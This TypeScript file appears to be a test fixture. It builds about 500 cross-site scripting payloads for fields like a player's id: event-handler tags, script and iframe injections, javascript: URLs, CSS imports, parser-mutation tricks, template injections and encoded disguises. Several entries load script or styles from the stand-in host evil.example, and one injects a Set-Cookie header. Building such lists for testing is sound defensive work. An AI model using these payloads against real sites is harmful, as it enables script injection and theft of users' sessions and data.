/** Texts that become markup, script, style or a request wherever somebody forgets that they are text. */

/** What a payload calls when it runs. */
const RUN = 'ran(1)';
/** Where one that loads something would load it from. */
const EVIL = '//evil.example';

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<object data=x onerror=${RUN}>`,
  `<p style=animation:spin onanimationstart=${RUN}>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<sCrIpT >${RUN}</ScRiPt >`,
  `<script src=${EVIL}/x.js></script>`,
  `<script type=module>import'${EVIL}/x.js'</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;">`,
  `<iframe src=javascript:parent.${RUN}>`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//https://`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript%3A${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `<a href="jav&#x61;script:${RUN}" autofocus>x</a>`,
  `data:text/html,<script>${RUN}</script>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=${EVIL}/>`,
];

const STYLES = [
  `<style>@import'${EVIL}/x.css'</style>`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<p style="background:url(${EVIL}/p.gif)">x</p>`,
  `;background:url(${EVIL}/p.gif);width:expression(${RUN})`,
];

const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<svg><desc><![CDATA[</desc><img src=x onerror=${RUN}>]]></svg>`,
];

const TEMPLATES = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `';${RUN}//\\';${RUN}//`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
];

const DISGUISES = [
  `&lt;img src=x onerror=${RUN}&gt; &amp;amp;`,
  `<scr\u0000ipt>${RUN}</script>`,
  `＜img src=x onerror=${RUN}＞`,
  `x\r\nSet-Cookie: a=b\r\n\r\n<script>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

/** What the text may find itself in, and would break out of. */
const CONTEXTS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `' autofocus onfocus='${RUN}'>${payload}`,
  (payload) => `</title></textarea>${payload}`,
  (payload) => `</script>${payload}`,
  (payload) => `"}--></style>${payload}`,
  (payload) => `"\u2028${payload}\u2029`,
  (payload) => `![x](x "${payload}")`,
  (payload) => `[x](javascript:${RUN})${payload}`,
  (payload) => `\u202e${payload}\u200b\u2066`,
];

/** Five hundred of them, no two alike; each fits wherever a player's id does. */
export const HOSTILE: readonly string[] = [
  HANDLERS,
  SCRIPTS,
  ADDRESSES,
  STYLES,
  MUTATIONS,
  TEMPLATES,
  DISGUISES,
].flatMap((payloads) => payloads.flatMap((payload) => CONTEXTS.map((context) => context(payload))));
